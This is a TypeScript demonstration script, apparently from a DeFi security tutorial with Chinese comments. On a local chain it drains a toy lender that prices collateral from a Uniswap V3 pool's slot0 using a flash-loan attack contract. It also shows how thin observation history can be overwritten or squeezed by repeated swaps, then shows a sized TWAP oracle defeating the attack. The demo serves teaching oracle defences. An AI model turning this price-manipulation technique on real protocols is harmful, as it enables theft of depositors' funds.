// SPDX-License-Identifier: MIT
// 价格操纵演示：借贷合约把 slot0 当作价格，一笔交易就能掏空；换成时间加权平均价格后同样的攻击失败。
// #region imports
import { erc20Abi, formatUnits, parseAbi, parseUnits, type Address } from 'viem';
import { swapRouterAbi, v3FactoryAbi, v3PoolAbi } from '#starter/abis';
import { deployments, publicClient } from '#starter/clients';
import { revertReason, showFailure } from '#starter/failures';
import { moveTime, testClient } from '#starter/local-chain';
import { waitForSuccess } from '#starter/receipts';
import { account, walletClient } from '#starter/wallet';
import { artifact } from '#solidity';
// #endregion imports

// #region setup
const { wxoc, usdt, tka } = deployments;
const market = await getPool(wxoc, usdt); // 受害合约读它的价格
const flashPool = await getPool(tka, usdt); // 攻击者从这里借 USDT
const attackAbi = parseAbi([
  'function attack(address lender, uint256 flashAmount, uint256 collateral)',
]);
const attacker = await deploy('v3-security/Slot0AttackDemo', [market, flashPool]);
const flashAmount = parseUnits('19000', 6);
const collateral = parseUnits('100', 18);
const fresh = await testClient.snapshot();
// #endregion setup

// #region attack
const spotOracle = await deploy('v3-security/Slot0Oracle', [market, wxoc, usdt]);
const spotLender = await deployLender(spotOracle);
console.log(`攻击前，100 WXOC 按 slot0 值 ${await valueOf(spotOracle)} USDT，正常可借一半`);
const before = await balance(usdt, account.address);
await attack(spotLender);
const lent = parseUnits('2000', 6) - (await balance(usdt, spotLender));
console.log(`借贷合约收下 100 WXOC，借出 ${formatUnits(lent, 6)} USDT`);
const profit = (await balance(usdt, account.address)) - before;
console.log(`攻击者没有本金，一笔交易之后得到 ${formatUnits(profit, 6)} USDT`);
console.log(`攻击之后，100 WXOC 按 slot0 值 ${await valueOf(spotOracle)} USDT`);
// #endregion attack

await testClient.revert({ id: fresh });

// #region cardinality
// 新池只有一个观测槽。有人兑换一次，唯一的一条就被覆盖，30 分钟的历史不复存在。
const window = 1800;
const twapArgs = [deployments.v3Factory, wxoc, usdt, 3000, window, 1n] as const;
await moveTime(window);
await observe(window);
console.log('只有一个观测槽，一直没有人兑换：30 分钟的累计值读得到');
await disturb();
await showFailure(() => observe(window));
// V3TwapOracle 不肯依赖这样的池。
await showFailure(() => deploy('v3-oracle/V3TwapOracle', twapArgs));
// #endregion cardinality

// #region squeeze
// 两种算法各备一次槽，窗口 30 秒。攻击者每秒推一次价格，一来一回，每次写一条观测值。
const short = 30;
const outcomes = [];
for (const [rule, count] of [
  ['窗口 ÷ 1.3 秒，再加 1', Math.ceil(short / 1.3) + 1],
  ['比窗口的秒数多 1', short + 1],
] as const) {
  const start = await testClient.snapshot();
  await grow(count);
  await disturb();
  await moveTime(short);
  const before = await readable(short);
  const { seconds, spent } = await attackEverySecond(short);
  outcomes.push({
    槽怎样算: rule,
    槽: count,
    攻击之前: before,
    [`每秒推一次，${seconds} 秒之后`]: await readable(short),
    '攻击者花掉 USDT': formatUnits(spent, 6),
  });
  await testClient.revert({ id: start });
}
// #endregion squeeze

// #region squeeze-table
console.table(outcomes);
// #endregion squeeze-table

// #region mend
// 修正：槽比窗口的秒数多，等够一个窗口，再使用。
const slots = window + 10;
let gas = 0n;
// 分三笔增加，免得一笔超过区块的 Gas 上限。
for (const next of [600, 1200, slots]) gas += await grow(next);
console.log(`增加到 ${slots} 个观测槽，共用 ${gas} Gas`);
await disturb();
await moveTime(window);
// 槽不够就不能部署；历史不够时，读取回滚，错误为 OLD。
const twapOracle = await deploy('v3-oracle/V3TwapOracle', twapArgs);
const twapLender = await deployLender(twapOracle);
console.log(`100 WXOC 按 30 分钟平均价值 ${await valueOf(twapOracle)} USDT`);
// 同一份攻击合约、同样的数量：借到的不够归还闪电贷，整笔交易回滚。
await showFailure(() =>
  publicClient.simulateContract({
    account,
    address: attacker,
    abi: attackAbi,
    functionName: 'attack',
    args: [twapLender, flashAmount, collateral],
  }),
);
console.log(`借贷合约的余额不变：${formatUnits(await balance(usdt, twapLender), 6)} USDT`);
// #endregion mend

// #region helpers
function getPool(tokenA: Address, tokenB: Address) {
  const factory = { address: deployments.v3Factory, abi: v3FactoryAbi } as const;
  return publicClient.readContract({
    ...factory,
    functionName: 'getPool',
    args: [tokenA, tokenB, 3000],
  });
}

async function deploy(file: string, args: readonly unknown[]): Promise<Address> {
  const name = file.slice(file.lastIndexOf('/') + 1);
  const { abi, bytecode } = artifact(`solidity/${file}.sol:${name}`);
  const hash = await walletClient.deployContract({ abi, bytecode, args });
  const { contractAddress } = await waitForSuccess(hash);
  if (!contractAddress) throw new Error(`${name} 部署失败`);
  return contractAddress;
}

/** 借贷合约里放 2,000 USDT，供人借出。 */
async function deployLender(oracle: Address) {
  const lender = await deploy('security/ToyLender', [wxoc, usdt, oracle]);
  const call = { address: usdt, abi: erc20Abi, functionName: 'transfer' } as const;
  const args = [lender, parseUnits('2000', 6)] as const;
  await waitForSuccess(await walletClient.writeContract({ ...call, args }));
  return lender;
}

async function attack(lender: Address) {
  const { request } = await publicClient.simulateContract({
    account,
    address: attacker,
    abi: attackAbi,
    functionName: 'attack',
    args: [lender, flashAmount, collateral],
  });
  await waitForSuccess(await walletClient.writeContract(request));
}

async function valueOf(oracle: Address) {
  const value = await publicClient.readContract({
    address: oracle,
    abi: parseAbi(['function valueOf(uint256 amount) view returns (uint256)']),
    functionName: 'valueOf',
    args: [collateral],
  });
  return formatUnits(value, 6);
}

function balance(token: Address, owner: Address) {
  const call = { address: token, abi: erc20Abi, functionName: 'balanceOf' } as const;
  return publicClient.readContract({ ...call, args: [owner] });
}

function observe(seconds: number) {
  const pool = { address: market, abi: v3PoolAbi } as const;
  return publicClient.readContract({ ...pool, functionName: 'observe', args: [[seconds, 0]] });
}

/** 整个窗口读得到吗；读不到就说明原因。 */
async function readable(seconds: number): Promise<string> {
  try {
    await observe(seconds);
    return '读得到';
  } catch (error) {
    const reason = revertReason(error);
    if (!reason) throw error;
    return `回滚，错误为 ${reason}`;
  }
}

async function grow(count: number): Promise<bigint> {
  const hash = await walletClient.writeContract({
    address: market,
    abi: v3PoolAbi,
    functionName: 'increaseObservationCardinalityNext',
    args: [count],
  });
  return (await waitForSuccess(hash)).gasUsed;
}

async function approve(token: Address, amount: bigint) {
  const call = { address: token, abi: erc20Abi, functionName: 'approve' } as const;
  await waitForSuccess(
    await walletClient.writeContract({ ...call, args: [deployments.swapRouter, amount] }),
  );
}

async function swap(tokenIn: Address, amountIn: bigint) {
  const { timestamp } = await publicClient.getBlock();
  const hash = await walletClient.writeContract({
    address: deployments.swapRouter,
    abi: swapRouterAbi,
    functionName: 'exactInputSingle',
    args: [
      {
        tokenIn,
        tokenOut: tokenIn === wxoc ? usdt : wxoc,
        fee: 3000,
        recipient: account.address,
        deadline: timestamp + 600n,
        amountIn,
        // 本地链上没有别人；真实的兑换要按报价设下限。
        amountOutMinimum: 0n,
        sqrtPriceLimitX96: 0n,
      },
    ],
  });
  await waitForSuccess(hash);
}

/** 一笔普通的兑换：卖出 20 WXOC，刻度会变，于是写入一条观测值。 */
async function disturb() {
  const amountIn = parseUnits('20', 18);
  await approve(wxoc, amountIn);
  await swap(wxoc, amountIn);
}

/** 用 10 USDT 买入，再把买到的卖回去，一秒一笔；花掉的只是手续费。 */
async function attackEverySecond(times: number) {
  await approve(usdt, parseUnits('10', 6) * BigInt(times));
  await approve(wxoc, parseUnits('10', 18) * BigInt(times));
  const usdtBefore = await balance(usdt, account.address);
  const { timestamp: started } = await publicClient.getBlock();
  for (let time = 0; time < times; time += 2) {
    const wxocBefore = await balance(wxoc, account.address);
    await swap(usdt, parseUnits('10', 6));
    await swap(wxoc, (await balance(wxoc, account.address)) - wxocBefore);
  }
  const spent = usdtBefore - (await balance(usdt, account.address));
  const { timestamp } = await publicClient.getBlock();
  return { seconds: timestamp - started, spent };
}
// #endregion helpers
